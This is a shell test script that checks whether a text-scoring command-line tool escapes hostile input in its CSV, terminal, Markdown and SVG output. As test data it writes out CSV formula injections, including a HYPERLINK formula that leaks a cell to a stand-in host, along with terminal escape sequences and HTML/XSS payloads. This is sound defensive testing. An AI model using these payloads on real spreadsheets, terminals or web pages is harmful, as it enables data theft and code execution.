# Nothing hostile in a text, a name or a lexicon's file name may run as a
# spreadsheet formula, drive a terminal, become HTML in a Markdown table,
# close an HTML comment or make the SVG invalid XML (issue 16, items 5-7).
E="$T/escape"; mkdir -p "$E"
# CSV: cells that start with = + - @ get a ' in front; plain numbers and
# --csv-raw are left alone
printf '=1+1\tThe WTO is good.\n@SUM(1+1)\tTariffs hurt.\n+cmd|'"'"' /C calc'"'"'!A0\tThe WTO is good.\n-2\tTariffs hurt.\n-1+1\tThe WTO is good.\n\t=tab\tTariffs hurt.\n' > "$E/formulas.tsv"
check csv-formula-injection 0 -- sh -c "$BIN score $LEX --input tsv --bootstrap 0 '$E/formulas.tsv' | cut -d, -f1 | uniq"
check csv-raw 0 -- sh -c "$BIN score $LEX --input tsv --bootstrap 0 --csv-raw '$E/formulas.tsv' | cut -d, -f1 | uniq"
# a speaker's name reaches comparison.csv, speakers.csv and evidence.csv
printf '{"id":"d1","speaker":"=HYPERLINK(\\"http://x.example/?\\"&A1,\\"x\\")","text":"The WTO is good."}\n' > "$E/speaker.jsonl"
check csv-formula-speaker-compare 0 -- sh -c "$BIN compare $LEX --input jsonl --bootstrap 0 -o '$E/cmp' '$E/speaker.jsonl' >/dev/null \
  && sed -n 2p '$E/cmp/comparison.csv' | cut -c1-60 && sed -n 2p '$E/cmp/evidence.csv' | cut -c1-60"
# Terminal: explain always shows control characters; score and compare do
# when their standard output is a terminal
printf 'The WTO is \033]0;owned\007good. \033[2J Tariffs \033]52;c;ZXZpbA==\007hurt.\n' > "$E/escapes.txt"
check explain-escapes-shown 0 -- $BIN explain $LEX --no-color "$E/escapes.txt"
printf 'x\033]0;owned\007y\tThe WTO is good.\n' > "$E/esc.tsv"
check score-tty-escapes-shown 0 -- sh -c "python3 tests/cli/on-tty.py \"$BIN score $LEX --input tsv --bootstrap 0 '$E/esc.tsv'\" | tail -1"
check compare-tty-escapes-shown 0 -- sh -c "python3 tests/cli/on-tty.py \"$BIN compare $LEX --input tsv --by article --bootstrap 0 -o '$E/cmp5' '$E/esc.tsv'\" | grep 'owned'"
# ... but a file gets the bytes as they are
check score-file-keeps-bytes 0 -- sh -c "$BIN score $LEX --input tsv --bootstrap 0 -o '$E/esc.csv' '$E/esc.tsv' && \
  grep -c \"\$(printf 'x\\033]0;owned\\007y')\" '$E/esc.csv'"
check error-message-escapes-shown 0 -- sh -c "$BIN score $LEX \"\$(printf 'no\\033[2Jsuch\\nfile.txt')\" 2>&1; echo status \$?"
# Markdown: no raw HTML from a name, valid UTF-8, pipes escaped
printf '{"id":"d1","speaker":"<img src=x onerror=alert(1)> | [x](javascript:y)","text":"The WTO is good."}\n' > "$E/html.jsonl"
check md-no-raw-html 0 -- sh -c "$BIN score $LEX --input jsonl --unit speaker --bootstrap 0 --format md '$E/html.jsonl' | sed -n '\$p'"
check md-compare-no-raw-html 0 -- sh -c "$BIN compare $LEX --input jsonl --bootstrap 0 -o '$E/cmp2' '$E/html.jsonl' | grep -F 'img'"
printf 'bad\377\376id\tThe WTO is good.\n' > "$E/badutf8.tsv"
check md-valid-utf8 0 -- sh -c "$BIN score $LEX --input tsv --bootstrap 0 --format md '$E/badutf8.tsv' | python3 -c 'import sys; t = sys.stdin.buffer.read().decode(\"utf-8\"); print(t.splitlines()[-1])'"
# a lexicon file name cannot close the provenance comment
cp tests/fixtures/lexicons/stance.tsv "$E/x--><img src=x onerror=alert(1)>.tsv"
check md-comment-not-closed 0 -- sh -c "$BIN compare --no-default-lexicons --lexicon '$E/x--><img src=x onerror=alert(1)>.tsv' --bootstrap 0 \
  -o '$E/cmp3' $FX/article.txt | sed -n '1,3p' | sed 's|$E|E|'"
# U+FFFF (and U+FFFE, C1 controls) in a name: the SVG stays XML
printf '{"id":"d1","speaker":"Anna\\uffff Lee\\ufffe\\u0085","text":"The WTO is good."}\n' > "$E/nonchar.jsonl"
check svg-valid-xml 0 -- sh -c "$BIN compare $LEX --input jsonl --bootstrap 0 -o '$E/cmp4' '$E/nonchar.jsonl' >/dev/null && \
  python3 -c 'import sys, xml.dom.minidom as m; d = m.parse(sys.argv[1]); print([t.firstChild.data for t in d.getElementsByTagName(\"text\") if \"Anna\" in t.firstChild.data])' '$E/cmp4/comparison.svg'"
